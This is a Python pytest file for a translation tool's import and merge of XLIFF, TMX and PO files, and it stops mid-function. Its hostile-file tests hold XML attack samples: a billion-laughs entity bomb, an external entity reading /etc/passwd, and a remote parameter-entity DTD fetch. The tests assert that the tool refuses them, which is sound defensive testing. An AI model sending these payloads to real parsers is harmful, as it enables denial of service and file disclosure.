"""`workbench import`: merging by id then source, conflicts kept, hostile XML refused."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import DATA, run_cli
from workbench.formats import read_exchange
from workbench.formats.po import format_po, read_po
from workbench.formats.tmx import read_tmx, write_tmx
from workbench.formats.xliff import read_xliff, write_xliff, write_xliff2
from workbench.import_merge import (
    CONFLICT_PREFIX,
    Prefer,
    escape_comment,
    merge_import,
    unescape_comment,
)
from workbench.model import Catalog, State, Unit

FORMATS_DATA = DATA / "formats"
SMALL_EN = FORMATS_DATA / "small.en.po"


def blank(catalog: Catalog) -> Catalog:
    """The catalog as `workbench init` first makes it: no translations."""
    units = [replace(u, target="", state=State.UNTRANSLATED, previous_source=None,
                     target_plurals=[""] * len(u.target_plurals),
                     comments=list(u.comments), auto_comments=list(u.auto_comments),
                     locations=list(u.locations), flags=list(u.flags)) for u in catalog.units]
    return Catalog(units, catalog.source_lang, catalog.target_lang, dict(catalog.header),
                   catalog.header_comment)


def incoming(*units: Unit, target: str = "en") -> Catalog:
    return Catalog(list(units), "zh-Hant", target)


def test_po_to_xliff_and_back_gives_the_same_catalog(tmp_path: Path) -> None:
    original = read_po(SMALL_EN)
    original.units[1].state = State.FUZZY
    original.units[4].set_target("")
    for make in (write_xliff, write_xliff2):
        catalog = blank(original)
        report = merge_import(catalog, read_xliff(make(original), "x").catalog)
        assert catalog.units == original.units
        assert format_po(catalog) == format_po(original)
        assert (report.filled, report.empty, report.conflicts, report.not_found) == (5, 1, [], [])


def test_matching_by_source_when_ids_differ() -> None:
    catalog = blank(read_po(SMALL_EN))
    other = incoming(Unit("1", "有問題嗎？", "Questions?", State.TRANSLATED),
                     Unit("2", "結尾 ", "The end", State.TRANSLATED),  # whitespace differs
                     Unit("3", "不在這裡。", "Not here.", State.TRANSLATED))
    report = merge_import(catalog, other)
    by_source = {u.source: u for u in catalog.units}
    assert by_source["有問題嗎？"].target == "Questions?"
    assert by_source["結尾"].target == "The end"
    assert [u.source for u in report.not_found] == ["不在這裡。"]


def test_id_match_needs_the_same_source() -> None:
    """A unit whose source changed since the export is matched by source, not by its old id."""
    catalog = blank(read_po(SMALL_EN))
    uid = catalog.units[0].id
    report = merge_import(catalog, incoming(Unit(uid, "舊的標題", "Old title", State.TRANSLATED)))
    assert catalog.units[0].target == ""
    assert len(report.not_found) == 1


def test_repeated_sentences_by_id_and_by_source() -> None:
    catalog = Catalog([Unit("r", "好。"), Unit("r.2", "好。"), Unit("s", "壞。")], "zh-Hant", "en")
    merge_import(catalog, incoming(Unit("r.2", "好。", "Good (2).", State.TRANSLATED)))
    assert [u.target for u in catalog.units] == ["", "Good (2).", ""]
    # A memory entry without id applies to every unit with that sentence; where one already
    # has another translation, that is a conflict like any other.
    report = merge_import(catalog, incoming(Unit("", "好。", "Good.", State.TRANSLATED)))
    assert [u.target for u in catalog.units] == ["Good.", "Good.", ""]
    assert [u.state for u in catalog.units[:2]] == [State.TRANSLATED, State.FUZZY]
    assert report.filled == 1 and [c.existing for c in report.conflicts] == ["Good (2)."]


def test_conflict_keeps_both_and_marks_fuzzy() -> None:
    catalog = read_po(SMALL_EN)
    unit = catalog.units[3]  # 有問題嗎？ -> Any questions? (translated)
    other = incoming(Unit(unit.id, unit.source, "Questions?\nAny?", State.TRANSLATED))
    report = merge_import(catalog, other)
    assert unit.target == "Questions?\nAny?" and unit.state is State.FUZZY
    note = f"{CONFLICT_PREFIX}previous translation (translated): Any questions?"
    assert unit.comments == [note]
    assert [(c.existing, c.imported) for c in report.conflicts] == [("Any questions?",
                                                                     "Questions?\nAny?")]
    # The same file again: no second comment, and the pending conflict is not "resolved".
    again = merge_import(catalog, other)
    assert unit.comments == [note] and unit.state is State.FUZZY
    assert again.conflicts == [] and again.unchanged == 1


def test_conflict_prefer_existing() -> None:
    catalog = read_po(SMALL_EN)
    unit = catalog.units[3]
    other = incoming(Unit(unit.id, unit.source, "Line one\nline two", State.FUZZY))
    report = merge_import(catalog, other, Prefer.EXISTING)
    assert unit.target == "Any questions?" and unit.state is State.FUZZY
    assert unit.comments == [f"{CONFLICT_PREFIX}imported translation (fuzzy): "
                             "Line one\\nline two"]
    assert unescape_comment(unit.comments[0].rpartition(": ")[2]) == "Line one\nline two"
    merge_import(catalog, other, Prefer.EXISTING)
    assert len(unit.comments) == 1 and len(report.conflicts) == 1


def test_reviewed_translation_replaces_a_fuzzy_draft_and_raises_states() -> None:
    catalog = read_po(SMALL_EN)
    draft, same = catalog.units[0], catalog.units[1]
    draft.set_target("Chapter one", State.FUZZY)
    draft.previous_source = "第一章"
    same.state = State.FUZZY
    report = merge_import(catalog, incoming(
        Unit(draft.id, draft.source, "Chapter 1: General Provisions", State.TRANSLATED),
        Unit(same.id, same.source, same.target, State.TRANSLATED)))
    assert (draft.target, draft.state, draft.previous_source) == (
        "Chapter 1: General Provisions", State.TRANSLATED, None)
    assert same.state is State.TRANSLATED
    assert report.updated == 2 and not report.conflicts


def test_an_import_never_erases_or_lowers() -> None:
    catalog = read_po(SMALL_EN)
    before = [replace(u) for u in catalog.units]
    report = merge_import(catalog, incoming(
        *[Unit(u.id, u.source, "", State.UNTRANSLATED) for u in catalog.units],
        Unit(catalog.units[0].id, catalog.units[0].source, catalog.units[0].target,
             State.FUZZY)))
    assert catalog.units == before
    assert not report.changed


def test_translator_comments_come_along() -> None:
    catalog = blank(read_po(SMALL_EN))
    u = catalog.units[0]
    merge_import(catalog, incoming(Unit(u.id, u.source, "Chapter 1", State.TRANSLATED,
                                        comments=["term checked"])))
    assert u.comments == ["term checked"]


def test_comment_escaping_round_trips() -> None:
    for text in ["a\\nb", "x\ny\r\nz", "back\\slash\\"]:
        assert unescape_comment(escape_comment(text)) == text
        assert "\n" not in escape_comment(text)


_text = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "Zs")), min_size=1,
                max_size=12)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(_text, st.sampled_from(State), _text), min_size=1, max_size=10),
       st.sampled_from(["xliff", "xliff2", "tmx"]))
def test_property_export_then_import_restores_the_translations(
        rows: list[tuple[str, State, str]], fmt: str) -> None:
    from workbench.model import make_unit_id

    seen: dict[str, int] = {}
    units = [Unit(make_unit_id(src, seen), src, tgt if state else "", state)
             for src, state, tgt in rows]
    original = Catalog(units, "zh-Hant", "en")
    writer = {"xliff": write_xliff, "xliff2": write_xliff2, "tmx": write_tmx}[fmt]
    back = read_tmx if fmt == "tmx" else read_xliff
    catalog = blank(original)
    merge_import(catalog, back(writer(original), "f").catalog)
    if fmt == "tmx":  # a memory holds reviewed translations only
        original = Catalog([u if u.state is State.TRANSLATED else replace(
            u, target="", state=State.UNTRANSLATED) for u in original.units], "zh-Hant", "en")
    assert catalog.units == original.units
    # Importing the same file again changes nothing.
    assert not merge_import(catalog, back(writer(original), "f").catalog).changed


# --- hostile and malformed files ------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xliff [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="x"
 source-language="zh-Hant" datatype="po"><body><trans-unit id="a"><source>&lol3;</source>
</trans-unit></body></file></xliff>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header srclang="zh-Hant"/><body><tu><tuv xml:lang="zh-Hant">
<seg>&secret;</seg></tuv><tuv xml:lang="en"><seg>x</seg></tuv></tu></body></tmx>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xliff [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<xliff version="1.2"/>
"""


@pytest.mark.parametrize("content", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_hostile_xml_is_refused_with_one_line(tmp_path: Path, content: str) -> None:
    po = tmp_path / "small.en.po"
    po.write_bytes(SMALL_EN.read_bytes())
    bad = tmp_path / "evil.xlf"
    bad.write_text(content, encoding="utf-8")
    result = run_cli("import", str(bad), "--into", str(po), cwd=tmp_path)
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "refused" in lines[0] and "Traceback" not in result.stderr
    declared = next(n for n, row in enumerate(content.splitlines(), 1) if "<!ENTITY" in row)
    assert lines[0].startswith(f"workbench: {bad}:{declared}: ")  # where it is declared
    assert po.read_bytes() == SMALL_EN.read_bytes()


@pytest.mark.parametrize("content, message", [
    ("<xliff version='1.2'><file", "malformed XML"),
    ("<html><body/></html>", "expected XLIFF or TMX"),
    ('msgid "a"\nmsgstr "b"\nmsgstr "c"\n', "duplicate msgstr"),
    ("<xliff version='1.2' xmlns='urn:oasis:names:tc:xliff:document:1.2'/>", "<file>"),
])
def test_malformed_files_are_one_clear_line(tmp_path: Path, content: str, message: str) -> None:
    po = tmp_path / "small.en.po"
    po.write_bytes(SMALL_EN.read_bytes())
    bad = tmp_path / "bad.xlf"
    bad.write_text(content, encoding="utf-8")
    result = run_cli("import", str(bad), "--into", str(po), cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_doctype_without_entities_is_accepted(tmp_path: Path) -> None:
    """OmegaT and Trados write `<!DOCTYPE tmx SYSTEM "tmx14.dtd">`; nothing is fetched."""
    tmx = tmp_path / "omegat.tmx"
    tmx.write_text("""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE tmx SYSTEM "tmx11.dtd">
<tmx version="1.1"><header creationtool="OmegaT" srclang="ZH-HANT" adminlang="EN-US"
 datatype="plaintext" segtype="sentence" o-tmf="OmegaT TMX"/>
<body><tu><tuv lang="ZH-HANT"><seg>有問題嗎？</seg></tuv>
<tuv lang="EN-US"><seg>Got questions?</seg></tuv></tu></body></tmx>
""", encoding="utf-8")
    catalog = blank(read_po(SMALL_EN))
    exchange = read_exchange(tmx, "en")
    merge_import(catalog, exchange.catalog)
    assert {u.source: u.target for u in catalog.units}["有問題嗎？"] == "Got questions?"


def test_inline_markup_of_other_tools_is_flattened(tmp_path: Path) -> None:
    xlf = tmp_path / "okapi.xlf"
    xlf.write_text("""<?xml version="1.0" encoding="UTF-8"?>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
<file original="small.txt" source-language="zh-TW" target-language="en-US" datatype="x-text">
<body><group id="g1"><trans-unit id="1"><source>結尾</source>
<seg-source><mrk mtype="seg" mid="0">結尾</mrk></seg-source>
<target xml:lang="en-US" state="translated"><mrk mtype="seg" mid="0"><g id="1">The</g> end</mrk>
</target></trans-unit></group></body></file></xliff>""", encoding="utf-8")
    exchange = read_exchange(xlf)
    assert exchange.catalog.units[0].target == "The end"  # pretty-printing dropped
    assert exchange.catalog.units[0].state is State.TRANSLATED


def test_xliff12_states_of_other_tools() -> None:
    def state_of(target: str) -> State:
        data = ('<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file '
                'original="x" source-language="zh" datatype="po"><body><trans-unit id="a">'
                f"<source>好</source>{target}</trans-unit></body></file></xliff>")
        return read_xliff(data.encode(), "x").catalog.units[0].state

    assert state_of('<target state="needs-translation">好</target>') is State.UNTRANSLATED
    assert state_of('<target state="needs-review-l10n">Good</target>') is State.FUZZY
    assert state_of('<target state="signed-off">Good</target>') is State.TRANSLATED
    assert state_of("<target>Good</target>") is State.TRANSLATED
    assert state_of("<target></target>") is State.UNTRANSLATED
    assert state_of("") is State.UNTRANSLATED


# --- the command ----------------------------------------------------------------------------

@pytest.fixture
def project(project_dir: Path) -> Path:
    assert run_cli("init", cwd=project_dir).returncode == 0
    return project_dir


def test_cli_round_trip_finds_the_catalog_from_the_file(project: Path) -> None:
    po = project / "locale" / "en" / "LC_MESSAGES" / "000_fa12286181b4949c.po"
    assert run_cli("export", str(po), "-f", "xliff", "-o", "out.xlf", cwd=project).returncode == 0
    xlf = project / "out.xlf"
    # The translator fills in two units (as Poedit would) and sends the file back.
    text = xlf.read_text(encoding="utf-8")
    for n, source in enumerate(["西藏自治區黨委統戰部版權所有????藏ICP備18000039號-1????",
                                "藏公網安備 54010202000133號"]):
        text = text.replace(f"<source>{source}</source>",
                            f'<source>{source}</source><target state="translated">T{n} &amp; '
                            "&lt;ok&gt;</target>", 1)
    xlf.write_text(text, encoding="utf-8")
    result = run_cli("import", "out.xlf", cwd=project)
    assert result.returncode == 0, result.stderr
    assert "2 newly translated" in result.stdout
    catalog = read_po(po)
    assert [u.target for u in catalog.units[:3]] == ["T0 & <ok>", "T1 & <ok>", ""]
    assert catalog.units[0].state is State.TRANSLATED


def test_cli_conflict_is_reported_and_exit_1(project: Path) -> None:
    po = project / "locale" / "en" / "LC_MESSAGES" / "000_fa12286181b4949c.po"
    catalog = read_po(po)
    catalog.units[0].set_target("Mine", State.TRANSLATED)
    po.write_text(format_po(catalog), encoding="utf-8")
    theirs = Catalog([replace(catalog.units[0], target="Theirs")], "zh-Hant", "en")
    (project / "theirs.xlf").write_bytes(write_xliff(theirs, original=str(po.relative_to(
        project))))
    dry = run_cli("import", "theirs.xlf", "--dry-run", cwd=project)
    assert dry.returncode == 1 and "dry run" in dry.stdout
    assert read_po(po).units[0].target == "Mine"
    result = run_cli("import", "theirs.xlf", cwd=project)
    assert result.returncode == 1
    assert f"conflict: {catalog.units[0].id}" in result.stdout
    unit = read_po(po).units[0]
    assert (unit.target, unit.state) == ("Theirs", State.FUZZY)
    assert unit.comments == [f"{CONFLICT_PREFIX}previous translation (translated): Mine"]


def test_cli_wrong_language_and_unknown_catalog(project: Path) -> None:
    po = project / "locale" / "zh_Hans" / "LC_MESSAGES" / "000_fa12286181b4949c.po"
    other = Catalog([Unit("x", "好。", "Good.", State.TRANSLATED)], "zh-Hant", "en")
    (project / "en.xlf").write_bytes(write_xliff(other, original="nowhere.po"))
    result = run_cli("import", "en.xlf", "--into", str(po), cwd=project)
    assert result.returncode == 2 and "target language is en" in result.stderr
    result = run_cli("import", "en.xlf", cwd=project)
    assert result.returncode == 2 and "--into" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_file_in_bare_zh_imports_into_either_script_but_not_into_the_other(
        tmp_path: Path) -> None:
    """'zh' names no script: a file tagged so serves a zh-TW catalog as one tagged zh-TW would
    (the rule of langs.fits, shared with reference memories); zh-CN into zh-TW stays refused."""
    po = tmp_path / "zh_TW.po"
    po.write_text('msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
                  '"Language: zh_TW\\n"\n\nmsgid "Open"\nmsgstr ""\n', encoding="utf-8")
    theirs = Catalog([Unit("x", "Open", "開啟", State.TRANSLATED)], "en", "zh")
    (tmp_path / "zh.xlf").write_bytes(write_xliff(theirs))
    result = run_cli("import", "zh.xlf", "--into", str(po), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert read_po(po).units[0].target == "開啟"
    theirs.target_lang = "zh-CN"
    (tmp_path / "cn.xlf").write_bytes(write_xliff(theirs))
    refused = run_cli("import", "cn.xlf", "--into", str(po), cwd=tmp_path)
    assert refused.returncode == 2 and "target language is zh-CN" in refused.stderr


def test_a_file_in_bare_zh_is_not_guessed_among_two_chinese_targets(project_dir: Path
                                                                     ) -> None:
    toml = project_dir / "workbench.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace(
        'targets = ["zh-Hans", "en"]', 'targets = ["zh-Hans", "zh-HK", "en"]'), encoding="utf-8")
    assert run_cli("init", cwd=project_dir).returncode == 0
    theirs = Catalog([Unit("x", "好。", "好。", State.TRANSLATED)], "zh-Hant", "zh")
    (project_dir / "zh.xlf").write_bytes(write_xliff(theirs, original="nowhere.po"))
    result = run_cli("import", "zh.xlf", cwd=project_dir)
    assert result.returncode == 2
    assert "could be any of zh-Hans, zh-HK: import it with --into PO" in result.stderr


def test_cli_imports_a_po_from_elsewhere(project: Path) -> None:
    po = project / "locale" / "en" / "LC_MESSAGES" / "000_fa12286181b4949c.po"
    catalog = read_po(po)
    catalog.units[2].set_target("The magnificent journey of the 14th Five-Year Plan.",
                                State.TRANSLATED)
    sent = project / "000_fa12286181b4949c.po"
    sent.write_text(format_po(catalog), encoding="utf-8")
    result = run_cli("import", sent.name, cwd=project)
    assert result.returncode == 0, result.stderr
    assert read_po(po).units[2].target.startswith("The magnificent journey")


# --- interoperability with translate-toolkit (Pootle, Virtaal, Weblate's converters) --------

def test_translate_toolkit_reads_our_xliff_and_tmx() -> None:
    from translate.storage import tmx, xliff

    catalog = read_po(SMALL_EN)
    catalog.units[1].state = State.FUZZY
    catalog.units[2].set_target("")
    store = xliff.xlifffile.parsestring(write_xliff(catalog, "x.po"))
    got = [(u.source, u.target or "", u.isfuzzy(), u.istranslated()) for u in store.units]
    assert got == [(u.source, u.target, u.state is State.FUZZY, u.state is State.TRANSLATED)
                   for u in catalog.units]
    memory = tmx.tmxfile.parsestring(write_tmx(catalog))
    assert [(u.source, u.target) for u in memory.units] == [
        (u.source, u.target) for u in catalog.units if u.state is State.TRANSLATED]


def test_translate_toolkit_po2xliff_output_imports(tmp_path: Path) -> None:
    import io

    from translate.convert import po2xliff

    original = read_po(SMALL_EN)
    out = io.BytesIO()
    po2xliff.convertpo(io.BytesIO(SMALL_EN.read_bytes()), out, None)  # XLIFF 1.1, new ids
    catalog = blank(original)
    report = merge_import(catalog, read_xliff(out.getvalue(), "ttk.xlf").catalog)
    assert catalog.units == original.units
    assert not report.not_found and not report.conflicts  # its header unit is skipped


def test_deeply_nested_inline_markup_is_no_crash(tmp_path: Path) -> None:
    depth = 200_000
    xlf = tmp_path / "deep.xlf"
    xlf.write_text('<xliff version="1.2"><file original="x" source-language="zh-Hant" '
                   'target-language="en" datatype="po"><body><trans-unit id="a"><source>結尾'
                   "</source><target>" + "<g>" * depth + "end" + "</g>" * depth +
                   "</target></trans-unit></body></file></xliff>", encoding="utf-8")
    po = tmp_path / "small.en.po"
    po.write_text(format_po(blank(read_po(SMALL_EN))), encoding="utf-8")
    result = run_cli("import", str(xlf), "--into", str(po), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert read_po(po).units[-1].target == "end"


def test_the_file_cannot_name_a_catalog_outside_the_project(project: Path,
                                                            tmp_path_factory) -> None:
    outside = tmp_path_factory.mktemp("victim") / "victim.po"
    outside.write_text(format_po(blank(read_po(SMALL_EN))), encoding="utf-8")
    before = outside.read_bytes()
    other = Catalog([replace(u) for u in read_po(SMALL_EN).units], "zh-Hant", "en")
    (project / "evil.xlf").write_bytes(write_xliff(other, original=str(outside)))
    result = run_cli("import", "evil.xlf", cwd=project)
    assert result.returncode == 2 and "--into" in result.stderr
    assert outside.read_bytes() == before


# --- inline codes and segmented units of other tools (QA r13, r10) -------------------------

def test_native_codes_of_tmx_are_kept_as_their_text(tmp_path: Path) -> None:
    """OmegaT/Trados TMX: bpt/ept/ph/it/ut hold the original's code (`<i0>`, `%s`): it is kept
    as text, as translate-toolkit keeps it, never dropped (issue 8: dropped codes left
    translations without their placeholders); hi and the text of a sub are text."""
    tmx = tmp_path / "om.tmx"
    tmx.write_text("""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE tmx SYSTEM "tmx11.dtd">
<tmx version="1.4"><header creationtool="OmegaT" srclang="ZH-TW" adminlang="EN-US"
 datatype="plaintext" segtype="sentence" o-tmf="OmegaT TMX"/><body>
<tu><tuv lang="ZH-TW"><seg>有問題嗎？</seg></tuv><tuv lang="EN-US"><seg>Then he <bpt i="1"
 x="1">&lt;i0&gt;</bpt>sat<ept i="1">&lt;/i0&gt;</ept> <ph x="2">&lt;br/&gt;</ph>down<it
 pos="begin">&lt;b&gt;</it><ut>{\\b}</ut><hi type="x">!</hi><ph>&lt;img
 alt="<sub>a cat</sub>"&gt;</ph></seg></tuv></tu></body></tmx>""", encoding="utf-8")
    unit = read_exchange(tmx, "en").catalog.units[0]
    assert unit.target == 'Then he <i0>sat</i0> <br/>down<b>{\\b}!<img\n alt="a cat">'


def test_inline_codes_of_xliff_are_kept_as_text(tmp_path: Path) -> None:
    """Native codes are their content; empty placeholders their text equivalent or data, else
    `{$ID}`; the source without them still matches a catalog's (`plain_source`)."""
    xlf = tmp_path / "trados.xlf"
    xlf.write_text("""<?xml version="1.0" encoding="UTF-8"?>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
<file original="x" source-language="zh-TW" target-language="en" datatype="html"><body>
<trans-unit id="1"><source>有<ph id="1">&lt;br/&gt;</ph>問題嗎？</source>
<target state="translated"><bpt id="2">&lt;i&gt;</bpt>Got<ept id="2">&lt;/i&gt;</ept> <x
 id="3"/><bx id="4"/><g id="5">ques<mrk mtype="term">tions</mrk></g><ex id="4"/><it id="6"
 pos="open">&lt;u&gt;</it>?<ph id="7">&lt;img alt="<sub>cat</sub>"&gt;</ph></target>
</trans-unit></body></file></xliff>""", encoding="utf-8")
    unit = read_exchange(xlf).catalog.units[0]
    assert (unit.source, unit.target) == (
        "有<br/>問題嗎？", '<i>Got</i> {$3}{$4}questions{/$4}<u>?<img alt="cat">')
    assert unit.plain_source == "有問題嗎？"
    xliff2 = tmp_path / "okapi.xliff"
    xliff2.write_text("""<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0"
 srcLang="zh-TW" trgLang="en"><file id="f"><unit id="u"><originalData><data id="d1">&lt;b&gt;
</data></originalData><segment><source>有問題嗎？</source><target><sc id="1"
 dataRefStart="d1"/>Got<ec startRef="1"/> <pc id="2">ques<mrk id="m"
 translate="yes">tions</mrk></pc><ph id="3"/>?</target></segment></unit></file></xliff>""",
                      encoding="utf-8")
    unit = read_exchange(xliff2).catalog.units[0]
    assert (unit.source, unit.target) == ("有問題嗎？", "<b>\nGot{/$1} questions{$3}?")


def test_cli_r13_tmx_inline_codes_into_the_catalog(project: Path) -> None:
    po = project / "locale" / "en" / "LC_MESSAGES" / "000_fa12286181b4949c.po"
    source = read_po(po).units[1].source
    tmx = project / "om.tmx"
    tmx.write_text('<?xml version="1.0"?><tmx version="1.1"><header srclang="ZH-TW"/><body>'
                   f'<tu><tuv lang="ZH-TW"><seg>{source}</seg></tuv><tuv lang="EN-US"><seg>'
                   'Then he <bpt i="1" x="1">&lt;i0&gt;</bpt>sat<ept i="1">&lt;/i0&gt;</ept> '
                   "down.</seg></tuv></tu></body></tmx>", encoding="utf-8")
    result = run_cli("import", "om.tmx", "--into", str(po), cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    assert read_po(po).units[1].target == "Then he <i0>sat</i0> down."


MULTI_FILE = """<?xml version="1.0" encoding="UTF-8"?>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
<file original="locale/en/LC_MESSAGES/talk.po" source-language="zh-Hant" target-language="en"
 datatype="po"><body><trans-unit id="1"><source>媽媽問。</source>
<target state="translated">Mom asked.</target></trans-unit></body></file>
<file original="{second}" source-language="zh-Hant" target-language="en"
 datatype="plaintext"><body><trans-unit id="2"><source>本法自公布日施行。</source><target
 state="translated">This Act takes effect on promulgation.</target></trans-unit></body></file>
</xliff>
"""


@pytest.fixture
def two_docs(tmp_path: Path) -> Path:
    (tmp_path / "src").mkdir()
    (tmp_path / "workbench.toml").write_text(
        '[workbench]\nsource-lang = "zh-Hant"\ntargets = ["en"]\nsources = "src"\n'
        'locale = "locale"\n', encoding="utf-8")
    (tmp_path / "src" / "talk.txt").write_text("「你去哪裡？」媽媽問。\n", encoding="utf-8")
    (tmp_path / "src" / "law.txt").write_text("本法自公布日施行。\n", encoding="utf-8")
    assert run_cli("init", cwd=tmp_path).returncode == 0
    return tmp_path


def _targets(project: Path, doc: str) -> dict[str, tuple[str, State]]:
    catalog = read_po(project / "locale" / "en" / "LC_MESSAGES" / f"{doc}.po")
    return {u.source: (u.target, u.state) for u in catalog.units}


def test_cli_each_file_of_an_xliff_package_into_its_own_catalog(two_docs: Path) -> None:
    # The second <file> names its document, as Okapi writes it.
    (two_docs / "two.xlf").write_text(MULTI_FILE.format(second="src/law.txt"), encoding="utf-8")
    result = run_cli("import", "two.xlf", cwd=two_docs)
    assert result.returncode == 0, result.stdout + result.stderr
    assert _targets(two_docs, "talk")["媽媽問。"] == ("Mom asked.", State.TRANSLATED)
    assert _targets(two_docs, "law")["本法自公布日施行。"] == (
        "This Act takes effect on promulgation.", State.TRANSLATED)
    assert "talk.po: 1 units matched" in result.stdout and "law.po: 1 units" in result.stdout


def test_cli_xliff_package_with_an_unknown_file_writes_nothing(two_docs: Path) -> None:
    (two_docs / "two.xlf").write_text(MULTI_FILE.format(second="elsewhere/other.po"),
                                      encoding="utf-8")
    before = (two_docs / "locale" / "en" / "LC_MESSAGES" / "talk.po").read_bytes()
    result = run_cli("import", "two.xlf", cwd=two_docs)
    assert result.returncode == 2
    assert "elsewhere/other.po" in result.stderr and "--into" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert (two_docs / "locale" / "en" / "LC_MESSAGES" / "talk.po").read_bytes() == before
    # --into takes the units of every <file>.
    law = two_docs / "locale" / "en" / "LC_MESSAGES" / "law.po"
    result = run_cli("import", "two.xlf", "--into", str(law), cwd=two_docs)
    assert result.returncode == 1  # the talk unit is not in law.po
    assert "not in the catalog: 1: 媽媽問。" in result.stdout
    assert _targets(two_docs, "law")["本法自公布日施行。"][1] is State.TRANSLATED


SEGMENTED_20 = """<?xml version="1.0" encoding="UTF-8"?>
<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="zh-Hant" trgLang="en">
 <file id="f1" original="src/talk.txt"><unit id="u1">
  <segment state="final"><source>「你去哪裡？」</source><target>“Where are you going?”</target>
  </segment>
  <segment state="initial"><source>媽媽問。</source><target>Mom asked.</target></segment>
 </unit></file></xliff>
"""


def test_cli_segments_match_the_catalogs_sentences(two_docs: Path) -> None:
    talk = _targets(two_docs, "talk")
    assert set(talk) == {"「你去哪裡？」", "媽媽問。"}  # the catalog has a unit per sentence
    (two_docs / "seg.xliff").write_text(SEGMENTED_20, encoding="utf-8")
    result = run_cli("import", "seg.xliff", cwd=two_docs)
    assert result.returncode == 0, result.stdout + result.stderr
    assert _targets(two_docs, "talk") == {"「你去哪裡？」": ("“Where are you going?”",
                                                          State.TRANSLATED),
                                        "媽媽問。": ("Mom asked.", State.FUZZY)}


def test_segments_join_into_a_catalog_unit_of_the_whole_text() -> None:
    catalog = Catalog([Unit("k", "「你去哪裡？」媽媽問。")], "zh-Hant", "en")
    merge_import(catalog, read_xliff(SEGMENTED_20.encode(), "x").catalog)
    unit = catalog.units[0]
    # Joined the target language's way; one draft segment makes the whole a draft.
    assert (unit.target, unit.state) == ("“Where are you going?” Mom asked.", State.FUZZY)
    # An <ignorable> between segments is what stands between them.
    data = SEGMENTED_20.replace("  <segment state=\"initial\">",
                                "<ignorable><source>\n</source></ignorable><segment>")
    catalog = Catalog([Unit("k", "「你去哪裡？」\n媽媽問。")], "zh-Hant", "en")
    merge_import(catalog, read_xliff(data.encode(), "x").catalog)
    assert (catalog.units[0].target, catalog.units[0].state) == (
        "“Where are you going?”\nMom asked.", State.TRANSLATED)


def test_xliff12_seg_source_marks_match_sentence_by_sentence() -> None:
    data = """<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
<file original="talk.txt" source-language="zh-TW" target-language="en" datatype="x-text"><body>
<trans-unit id="p1"><source>「你去哪裡？」媽媽問。</source><seg-source><mrk mtype="seg"
 mid="0">「你去哪裡？」</mrk><mrk mtype="seg" mid="1">媽媽問。</mrk></seg-source>
<target state="translated"><mrk mtype="seg" mid="0">“Where are you going?”</mrk> <mrk
 mtype="seg" mid="1">Mom <g id="1">asked</g>.</mrk></target></trans-unit></body></file></xliff>"""
    by_sentence = Catalog([Unit("a", "「你去哪裡？」"), Unit("b", "媽媽問。")], "zh-Hant", "en")
    report = merge_import(by_sentence, read_xliff(data.encode(), "x").catalog)
    assert [(u.target, u.state) for u in by_sentence.units] == [
        ("“Where are you going?”", State.TRANSLATED), ("Mom asked.", State.TRANSLATED)]
    assert (report.filled, report.not_found) == (2, [])
    whole = Catalog([Unit("a", "「你去哪裡？」媽媽問。")], "zh-Hant", "en")
    merge_import(whole, read_xliff(data.encode(), "x").catalog)
    assert whole.units[0].target == "“Where are you going?” Mom asked."


def test_a_partly_translated_segmented_unit_is_a_complete_draft() -> None:
    data = SEGMENTED_20.replace("<target>Mom asked.</target>", "")
    unit = read_xliff(data.encode(), "x").catalog.units[0]
    assert (unit.target, unit.state) == ("“Where are you going?” 媽媽問。", State.FUZZY)
    by_sentence = Catalog([Unit("a", "「你去哪裡？」"), Unit("b", "媽媽問。")], "zh-Hant", "en")
    report = merge_import(by_sentence, read_xliff(data.encode(), "x").catalog)
    assert [(u.target, u.state) for u in by_sentence.units] == [
        ("“Where are you going?”", State.TRANSLATED), ("", State.UNTRANSLATED)]
    assert (report.filled, report.empty) == (1, 1)


def test_repeated_sentences_from_another_tool_keep_their_own_translations() -> None:
    from workbench.import_merge import merge_import
    from workbench.model import Catalog, State, Unit

    catalog = Catalog([Unit("c1", "第一章"), Unit("ok", "好的。"), Unit("c2", "第二章"),
